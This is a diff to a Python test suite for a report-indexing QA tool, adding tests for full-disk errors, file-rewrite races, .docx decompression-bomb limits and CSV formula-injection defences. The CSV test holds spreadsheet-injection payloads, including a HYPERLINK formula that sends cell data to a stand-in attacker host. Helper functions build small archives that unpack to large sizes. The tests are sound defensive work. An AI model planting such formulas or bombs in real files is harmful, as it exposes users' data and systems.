@@ -208,6 +208,38 @@ def test_milvus_takes_control_characters_in_names_and_huge_titles(tmp_path, fake
     assert len(faiss_kb) == len(kb)
 
 
+def test_milvus_out_of_space_is_one_line_and_leaves_no_collections(tmp_path, fake_model, hongqiao_corpus,
+                                                                     monkeypatch):
+    """Issue 24: Milvus Lite on a full disk gave an 89-line traceback ending `MilvusException … No space left on
+    device`, and left the half-written generation until the next write that completed. Now the failed write's
+    collections are dropped at once and the error is one line, as for FAISS; the previous generation answers."""
+    from pymilvus import MilvusClient, MilvusException
+
+    from qa.retrieval.index import IndexUnwritable
+    from qa.retrieval.milvus_store import _generations, connect
+
+    uri = str(tmp_path / "m.db")
+    passages = len(qa.build(hongqiao_corpus, store="milvus", uri=uri, progress=False))
+    before = _generations(connect(uri), "reports")
+    (hongqiao_corpus / "extra.txt").write_text("一、新增\n行政复议维持99宗。", "utf-8")
+    insert = MilvusClient.insert
+
+    def full(self, collection_name, *args, **kwargs):
+        if "_passages" in collection_name:  # the new report's passages: the disk fills up
+            raise MilvusException(code=65535, message="failed to write segment: No space left on device")
+        return insert(self, collection_name, *args, **kwargs)
+
+    monkeypatch.setattr(MilvusClient, "insert", full)
+    with pytest.raises(IndexUnwritable, match=r"^the disk holding .*m.db is full: [\d.]+ MB free; free some space "
+                                              r"or pass --milvus-uri on another disk \(the previous collection"):
+        qa.build(hongqiao_corpus, store="milvus", uri=uri, progress=False)
+    assert _generations(connect(uri), "reports") == before  # no leftovers of the failed write
+    kb = qa.load(store="milvus", uri=uri)
+    assert [d.source for d in kb.documents] == ["hongqiao_2022_fazhi_zhengfu_report.txt"] and len(kb) == passages
+    monkeypatch.setattr(MilvusClient, "insert", insert)
+    assert len(qa.build(hongqiao_corpus, store="milvus", uri=uri, progress=False).documents) == 2
+
+
 # ---------------------------------------------------------------- full disks, read-only and locked folders
 
 @pytest.fixture
@@ -433,6 +465,73 @@ def test_add_refuses_a_different_report_of_the_same_name(fake_model, hongqiao_co
     assert "维持98宗" in original.read_text("utf-8")
 
 
+# ---------------------------------------------------------------- files rewritten during a build
+
+def _rewrite_in_place(path, data: bytes, cut: int) -> None:
+    """What an editor saving in place does: truncate, write a first part, then the rest."""
+    with open(path, "r+b") as handle:
+        handle.truncate(0)
+        handle.write(data[:cut])
+        handle.flush()
+        handle.write(data[cut:])
+
+
+def test_a_report_rewritten_during_a_build_is_never_kept_in_part(fake_model, hongqiao_corpus, tmp_path, monkeypatch):
+    """Issue 24: the build hashed one read of a file and parsed another. A writer rewriting it in place (same
+    content) between the two left a third of the report in the index under the whole file's hash, so no later
+    build repaired it. Now the hash recorded is of the bytes parsed: the next build sees the difference."""
+    from conftest import DATA
+
+    from qa.reading.corpus import read_document
+
+    shutil.copy(DATA / "liwan_2022_excerpt.txt", hongqiao_corpus)  # a report that stays: the corpus is never empty
+    report = hongqiao_corpus / "hongqiao_2022_fazhi_zhengfu_report.txt"
+    whole = report.read_bytes()
+    third = whole.index(b"\n", len(whole) // 3)
+    expected = read_document(report, hongqiao_corpus).text
+    real_state = qa.retrieval.index.corpus_state
+
+    def hashed_then_rewritten(corpus):
+        state = real_state(corpus)
+        report.write_bytes(whole[:third])  # the writer has truncated the file and written a third of it
+        return state
+
+    monkeypatch.setattr(qa.retrieval.index, "corpus_state", hashed_then_rewritten)
+    qa.build(hongqiao_corpus, tmp_path / "index", progress=False)
+    monkeypatch.setattr(qa.retrieval.index, "corpus_state", real_state)
+    report.write_bytes(whole)  # the writer is done: the very bytes the build hashed
+    kb = qa.load(tmp_path / "index", corpus=hongqiao_corpus, rebuild=True)
+    assert _text(kb, report.name) == expected
+
+    # The race itself, 20 times: a writer rewrites the file in place, again and again, while the build reads it
+    # (an empty file, a third, the whole). Whatever the build read, once the writer stops the index holds the
+    # whole report or knows it is stale. The writer's pause only lets the build see the whole file now and then
+    # (with it the old code kept a partial report about 1 run in 15); the assertion holds for every interleaving.
+    import threading
+
+    for run in range(20):
+        stop = threading.Event()
+
+        def writer():
+            while not stop.is_set():
+                _rewrite_in_place(report, whole, third)
+                stop.wait(0.001)
+
+        thread = threading.Thread(target=writer)
+        thread.start()
+        try:
+            qa.build(hongqiao_corpus, tmp_path / f"race-{run}", progress=False)
+        finally:
+            stop.set()
+            thread.join()
+        kb = qa.load(tmp_path / f"race-{run}", corpus=hongqiao_corpus, rebuild=True)
+        assert _text(kb, report.name) == expected, f"run {run}: the index kept part of the report"
+
+
+def _text(kb, source: str) -> str:
+    return next((d.text for d in kb.documents if d.source == source), "")
+
+
 # ---------------------------------------------------------------- input limits
 
 def _bomb(path, megabytes: int) -> None:
@@ -457,19 +556,79 @@ def test_a_docx_bomb_is_refused_before_it_is_unpacked(tmp_path, monkeypatch):
     bomb = tmp_path / "bomb.docx"
     _bomb(bomb, 60)
     assert bomb.stat().st_size < 2_000_000
-    with pytest.raises(UnreadableError, match=r"bomb.docx: unpacks to 6\d MB of XML, over the limit of 50 MB; "
-                                              r"set QA_MAX_UNPACKED_MB"):
-        check_archive(bomb)
+    with pytest.raises(UnreadableError, match=r"bomb.docx: its part word/document.xml unpacks to 6\d MB, over the "
+                                              r"limit of 50 MB a part; set QA_MAX_PART_MB"):
+        check_archive(bomb, max_ratio=1000)
+    with pytest.raises(UnreadableError, match=r"bomb.docx: its part word/document.xml unpacks to 6\d MB from "
+                                              r"[\d.]+ MB, over 100 times its packed size"):
+        check_archive(bomb, max_part_mb=100)
     from qa.reading.corpus import read_document
 
-    with pytest.raises(UnreadableError, match="over the limit"):  # the reader asks before it unpacks
+    with pytest.raises(UnreadableError, match="over"):  # the reader asks before it unpacks
         read_document(bomb, tmp_path)
-    check_archive(bomb, max_unpacked_mb=100)  # the limit is configurable
-    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "100")
+    check_archive(bomb, max_part_mb=100, max_ratio=1000)  # the limits are configurable
+    monkeypatch.setenv("QA_MAX_PART_MB", "100")
+    monkeypatch.setenv("QA_MAX_RATIO", "1000")
     check_archive(bomb)
     (tmp_path / "broken.docx").write_bytes(b"PK\x03\x04 not really")
     with pytest.raises(UnreadableError, match="not a readable .docx"):
         check_archive(tmp_path / "broken.docx")
+
+
+def _docx_with_image(path, image_bytes: int) -> None:
+    """A real .docx (python-docx) whose picture part is a 1×1 PNG followed by `image_bytes` zero bytes: the
+    picture is linked, so python-docx loads the whole part, and zeros deflate to almost nothing."""
+    import io
+
+    import docx
+    from PIL import Image
+
+    png = io.BytesIO()
+    Image.new("RGB", (1, 1)).save(png, format="PNG")
+    document = docx.Document()
+    document.add_paragraph("某区2022年报告")
+    document.add_paragraph("行政复议维持13宗。")
+    document.add_picture(io.BytesIO(png.getvalue() + bytes(image_bytes)))
+    document.save(str(path))
+
+
+def test_every_part_of_a_docx_counts_any_name_any_case(tmp_path, monkeypatch):
+    """Issue 24: only parts named *.xml/*.rels were counted, so a 1 MB .docx holding a 1 GB picture was read
+    (peak 1.9 GB), and `document.XML` passed too. Every part counts now, against a total, a per-part and a
+    compression-ratio limit; the limits are lowered here so that the parts stay a few megabytes."""
+    import zipfile
+
+    from qa.reading.corpus import read_document
+    from qa.reading.document import UnreadableError
+    from qa.reading.limits import check_archive
+
+    picture = tmp_path / "picture.docx"
+    _docx_with_image(picture, 3_000_000)
+    assert picture.stat().st_size < 100_000
+    with pytest.raises(UnreadableError, match=r"^picture.docx: its part word/media/image1.png unpacks to 3 MB from "
+                                              r"0.00 MB, over 100 times its packed size .*set QA_MAX_RATIO"):
+        check_archive(picture)
+    with pytest.raises(UnreadableError, match="over 100 times"):  # the reader asks before python-docx opens it
+        read_document(picture, tmp_path)
+    monkeypatch.setenv("QA_MAX_RATIO", "1000000")
+    monkeypatch.setenv("QA_MAX_PART_MB", "2")
+    with pytest.raises(UnreadableError, match=r"image1.png unpacks to 3 MB, over the limit of 2 MB a part; "
+                                              r"set QA_MAX_PART_MB"):
+        check_archive(picture)
+    monkeypatch.setenv("QA_MAX_PART_MB", "50")
+    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "2")
+    with pytest.raises(UnreadableError, match=r"picture.docx: unpacks to \d MB, over the limit of 2 MB; "
+                                              r"set QA_MAX_UNPACKED_MB"):
+        check_archive(picture)
+    # Upper-case names count too: a 3 MB `word/document.XML` beside the real one.
+    with zipfile.ZipFile(picture, "a", compression=zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/document.XML", b"<w:t/>" * 500_000)
+    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "6")
+    with pytest.raises(UnreadableError, match=r"unpacks to [67] MB, over the limit of 6 MB"):
+        check_archive(picture)
+    # Within the limits the report is read, picture and all (it is never decoded).
+    monkeypatch.setenv("QA_MAX_UNPACKED_MB", "10")
+    assert "维持13宗" in read_document(picture, tmp_path).text
 
 
 def test_pdf_page_limit(tmp_path, monkeypatch):
@@ -488,6 +647,38 @@ def test_pdf_page_limit(tmp_path, monkeypatch):
     with pytest.raises(UnreadableError, match="long.pdf: 12 pages, over the limit of 10; set QA_MAX_PAGES"):
         check_archive(tmp_path / "long.pdf")
     check_archive(tmp_path / "report.txt")  # other formats pass unread
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")
+
+
+def test_csv_exports_never_hold_a_formula(tmp_path, capsys):
+    """Issue 24: `qa feedback --csv` and `qa figures --csv` wrote cells starting with = + - @ unchanged, so a
+    spreadsheet opening the file ran `=HYPERLINK(…)`. Such cells now start with a ' (OWASP); the test reads the
+    CSV back as a spreadsheet would and looks at every cell."""
+    import csv
+    import io
+
+    from qa.app.feedback import Feedback
+    from qa.cli import main
+
+    report = tmp_path / "formulas.txt"
+    report.write_text("某区2022年报告\n一、=HYPERLINK(\"http://evil.example\",\"章节\")\n"
+                      '=HYPERLINK("http://evil.example","点击")全年办理案件13件。\n'
+                      "-2+3名调解员全年新增7名。\n@SUM(A1)行政复议维持9宗。\n", "utf-8")
+    feedback = Feedback(tmp_path / "index" / "feedback.sqlite3")
+    for text in FORMULAS:
+        feedback.add(rating="up", question=text, answer=text, source=text)
+    exports = []
+    for command in (["figures", str(report), "--csv"], ["feedback", "--index", str(tmp_path / "index"), "--csv"]):
+        assert main(command) == 0
+        exports.append(list(csv.reader(io.StringIO(capsys.readouterr().out))))
+    figures, ratings = exports
+    cells = [c for rows in exports for row in rows for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(c.startswith("'=HYPERLINK") for row in figures for c in row)  # the report's text is there, inert
+    assert {row[2] for row in ratings[1:]} == {"'" + text for text in FORMULAS}
+    assert ["9宗" in row for row in figures].count(True) == 1  # figures themselves are untouched
 
 
 @pytest.mark.parametrize("k", [0, -1, 101, 1_000_000_000, 2.5, "5", None, True])
